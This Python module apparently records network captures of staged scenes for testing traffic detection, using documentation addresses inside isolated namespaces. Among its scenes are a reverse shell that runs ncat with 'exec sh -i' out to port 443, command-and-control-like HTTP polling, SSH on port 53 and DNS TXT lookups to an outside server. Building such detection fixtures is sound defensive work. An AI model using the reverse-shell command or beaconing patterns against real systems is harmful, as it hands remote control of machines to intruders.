"""One function a scene: real programs talk over the cable, while it is recorded.

Each scene starts its servers in the world and plays its clients in the office. The addresses are those for documentation
(RFC 5737, RFC 3849) and, inside, private ones (RFC 1918, RFC 4193); the names end in `.example` (RFC 2606).
"""

import subprocess
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tools.demo import servers
from tools.demo.network import SETTLE, Network, RecordingError

BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
RESOLVER = "192.0.2.53"


@dataclass(frozen=True, slots=True)
class Stage:
    """Where a scene is played."""

    net: Network
    folder: Path
    """Of this scene alone; gone afterwards."""

    def dig(self, client: str, *words: str, server: str = RESOLVER) -> None:
        """Ask a name server from one of the office's addresses."""
        self.net.client("dig", "-b", client, f"@{server}", "+tries=1", "+time=2", *words)

    def curl(self, client: str, *words: str, agent: str = BROWSER) -> bytes:
        """Fetch with curl from one of the office's addresses."""
        return self.net.client("curl", "-sk", "-m", "8", "--interface", client, "-A", agent, *words)


def https_on_8088(stage: Stage) -> None:
    """A host fetches a small file by HTTPS from port 8088, again and again."""
    pages = {"status.json": b'{"next": 10, "jobs": []}\n'}
    block = "listen 203.0.113.80:8088 ssl; " + servers.tls(stage.folder, "cdn-sync.example")
    with stage.net.server("203.0.113.80:8088", *servers.nginx(stage.folder, block, pages=pages)):
        for _ in range(6):
            stage.curl("10.20.3.14", "--resolve", "cdn-sync.example:8088:203.0.113.80",
                       "https://cdn-sync.example:8088/status.json", agent="cdn-sync/1.4")  # fmt: skip
            time.sleep(5)


def tls_on_587(stage: Stage) -> None:
    """TLS from the first byte on the submission port, which begins in clear and turns to TLS by STARTTLS."""
    crt, key = servers.certificate(stage.folder, "relay.example")
    command = ("openssl", "s_server", "-accept", "198.51.100.25:587", "-cert", str(crt), "-key", str(key), "-quiet")
    with stage.net.server("198.51.100.25:587", *command):
        stage.net.client("openssl", "s_client", "-connect", "198.51.100.25:587", "-bind", "10.20.3.27",
                         "-servername", "relay.example", data=b"status\n", timeout=2)  # fmt: skip


TYPED = ("id", "hostname", "pwd", "ls -l", "cat queue.conf", "tail -n 2 jobs.log", "exit")
_HOST = """
hostname branch-print01
printf 'root:x:0:0:root:/root:/bin/sh\\nsvc-print:x:1004:1004::/srv/print:/bin/sh\\n' > "$0/passwd"
printf 'root:x:0:\\nsvc-print:x:1004:\\n' > "$0/group"
mount --bind "$0/passwd" /etc/passwd
mount --bind "$0/group" /etc/group
mount -t tmpfs -o mode=755 tmpfs /srv
mkdir /srv/print
cd /srv/print
printf '[queue]\\nname = second-floor\\nhost = 10.20.9.20\\nspool = /srv/print/spool\\n' > queue.conf
printf '09:12 job 4411 done\\n09:31 job 4412 done\\n09:34 job 4413 waits for paper\\n' > jobs.log
mkdir spool
touch -d '2026-01-12 08:30' queue.conf jobs.log spool
chown -R 1004:1004 /srv/print
exec setpriv --reuid 1004 --regid 1004 --clear-groups env -i PATH=/usr/bin:/bin HOME=/srv/print LC_ALL=C TZ=UTC PS1='$ ' \\
    ncat -s "$1" "$2" 443 -c 'exec sh -i 2>&1'
"""
"""A print server that exists for the length of a mount and a UTS namespace: no file of the recording machine is seen."""


def shell_on_443(stage: Stage) -> None:
    """A shell calls out to port 443, and somebody types into it."""
    with stage.net.server("203.0.113.66:443", "ncat", "-l", "203.0.113.66", "443") as listener:
        caller = subprocess.Popen(
            ["ip", "netns", "exec", stage.net.office, "unshare", "--mount", "--uts", "sh", "-ec", _HOST,
             str(stage.folder), "10.20.4.9", "203.0.113.66"],
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
        )  # fmt: skip
        time.sleep(2 * SETTLE)
        try:
            for line in TYPED:
                if listener.stdin is not None and caller.poll() is None:
                    listener.stdin.write(line.encode() + b"\n")
                    listener.stdin.flush()
                time.sleep(1.2)
            caller.wait(5)
        except (OSError, subprocess.TimeoutExpired) as error:
            raise RecordingError(f"The shell on 443 did not hold until `exit` was typed: {error}") from error
        finally:
            caller.kill()
            caller.communicate()


def ssh_on_53(stage: Stage) -> None:
    """Somebody logs in by SSH at port 53/tcp, and fetches 24 kB."""
    with stage.net.server("198.51.100.53:53", *servers.sshd(stage.folder, "198.51.100.53:53")):
        stage.net.client(*servers.ssh(stage.folder, "-b", "10.20.5.31", "-p", "53"), "root@198.51.100.53",
                         "head -c 24000 /dev/zero")  # fmt: skip


def http_on_443(stage: Stage) -> None:
    """HTTP in clear on the port of HTTPS: a program asks for orders and posts an answer."""
    pages = {"tasks.json": b'{"id": 7, "do": "inventory"}\n'}
    block = "listen 203.0.113.140:443; location = /report { return 204; }"
    with stage.net.server("203.0.113.140:443", *servers.nginx(stage.folder, block, pages=pages)):
        stage.curl("10.20.6.12", "http://203.0.113.140:443/tasks.json", agent="updater/2.1")
        time.sleep(1)
        stage.curl("10.20.6.12", "--data", "id=7&state=done", "http://203.0.113.140:443/report", agent="updater/2.1")


def ssh_from_port_22(stage: Stage) -> None:
    """SSH to 41414 whose client took 22 as its own port, so that the flow looks like SSH's at a glance."""
    with stage.net.server("198.51.100.22:41414", *servers.sshd(stage.folder, "198.51.100.22:41414")):
        proxy = "ProxyCommand=ncat -s 10.20.5.31 -p 22 %h %p"
        stage.net.client(*servers.ssh(stage.folder, "-o", proxy, "-p", "41414"), "root@198.51.100.22",
                         "head -c 4000 /dev/zero")  # fmt: skip


def dns_on_8053(stage: Stage) -> None:
    """Questions over TCP to a name server on 8053, past the office's own resolver."""
    records = [f"--txt-record=c{number}.relay.example,{number:02d}{'k' * 200}" for number in range(4)]
    with stage.net.server("198.51.100.153:8053", *servers.dnsmasq("198.51.100.153", *records, port=8053)):
        for number in range(4):
            stage.dig("10.20.4.22", "-p", "8053", "+tcp", f"c{number}.relay.example", "TXT", server="198.51.100.153")
            time.sleep(1)


def redirect_on_443(stage: Stage) -> None:
    """Somebody typed http:// with port 443; the server sends them to https. Nothing is wrong."""
    block = (
        "listen 192.0.2.44:443 ssl; server_name shop.example; error_page 497 =301 https://$host$request_uri; "
        + servers.tls(stage.folder, "shop.example")
    )
    with stage.net.server("192.0.2.44:443", *servers.nginx(stage.folder, block)):
        to = ("--resolve", "shop.example:443:192.0.2.44")
        stage.curl("10.20.3.31", *to, "http://shop.example:443/")
        stage.curl("10.20.3.31", *to, "https://shop.example/")


def raw_on_443(stage: Stage) -> None:
    """Length-prefixed bytes without a pattern on 443: neither TLS nor anything else."""
    with stage.net.server("203.0.113.201:443", *servers.peer("listen", "203.0.113.201", "443", "6")):
        stage.net.client(*servers.peer("call", "10.20.6.40", "203.0.113.201", "443", "6", "0.5"))


def starttls_on_587(stage: Stage) -> None:
    """Mail handed in as it should be on 587: greeting, EHLO, STARTTLS, TLS."""
    letter = b"From: a.branch@office.example\r\nTo: orders@shop.example\r\nSubject: Paper\r\n\r\nTwo boxes, please.\r\n"
    with stage.net.server("192.0.2.25:587", *servers.smtpd("192.0.2.25:587", stage.folder, "mail.example")):
        stage.net.client("curl", "-sk", "-m", "8", "--interface", "10.20.3.18", "--ssl-reqd",
                         "smtp://192.0.2.25:587/pc18.office.example", "--mail-from", "a.branch@office.example",
                         "--mail-rcpt", "orders@shop.example", "--upload-file", "-", data=letter)  # fmt: skip


def benign_mix(stage: Stage) -> None:
    """What an office does all day, on ports where it belongs or is usual."""
    web = servers.nginx(
        stage.folder,
        "listen 192.0.2.10:80; listen 192.0.2.10:8080;",
        "listen 192.0.2.10:443 ssl; listen 192.0.2.10:8443 ssl; " + servers.tls(stage.folder, "www.example"),
    )
    names = servers.dnsmasq(RESOLVER, "--address=/www.example/192.0.2.10")
    shells = servers.sshd(stage.folder, "192.0.2.22:22")
    with (
        stage.net.server("192.0.2.10:80", *web),
        stage.net.server(f"{RESOLVER}:53", *names),
        stage.net.server("192.0.2.22:22", *shells),
    ):
        for client in ("10.20.3.14", "10.20.3.27", "10.20.4.9"):
            stage.dig(client, "www.example")
            stage.curl(client, "http://192.0.2.10/")
            stage.curl(client, "http://192.0.2.10:8080/")
            for port in (443, 8443):
                stage.curl(client, "--resolve", f"www.example:{port}:192.0.2.10", f"https://www.example:{port}/")
        stage.net.client(*servers.ssh(stage.folder, "-b", "10.20.3.14"), "root@192.0.2.22", "true")
    starttls_on_587(stage)


def dns_fragments(stage: Stage) -> None:
    """Two answers of nearly 3,000 bytes over UDP, each in three fragments, as DNS with large records does."""
    text = ",".join(f"{number:02d}" + "v" * 240 for number in range(12))
    with stage.net.server(f"{RESOLVER}:53", *servers.dnsmasq(RESOLVER, f"--txt-record=keys.example,{text}")):
        for client in ("10.20.3.14", "10.20.3.27"):
            stage.dig(client, "keys.example", "TXT", "+bufsize=4096", "+ignore")


SCENES: dict[str, Callable[[Stage], None]] = {
    "https-on-8088": https_on_8088,
    "tls-on-587": tls_on_587,
    "shell-on-443": shell_on_443,
    "ssh-on-53": ssh_on_53,
    "http-on-443": http_on_443,
    "ssh-from-port-22": ssh_from_port_22,
    "dns-on-8053": dns_on_8053,
    "raw-on-443": raw_on_443,
    "redirect-on-443": redirect_on_443,
    "benign-mix": benign_mix,
    "dns-fragments": dns_fragments,
}
"""Name of the capture → the scene that it records."""

OFFICE = (
    "10.20.3.14", "10.20.3.18", "10.20.3.27", "10.20.3.31", "10.20.4.9", "10.20.4.22", "10.20.5.31", "10.20.6.12",
    "10.20.6.40",
)  # fmt: skip
WORLD = (
    "192.0.2.10", "192.0.2.22", "192.0.2.25", "192.0.2.44", "192.0.2.53", "198.51.100.22", "198.51.100.25",
    "198.51.100.53", "198.51.100.153", "203.0.113.66", "203.0.113.80", "203.0.113.140", "203.0.113.201",
)  # fmt: skip
"""Addresses that the scenes use on either side."""
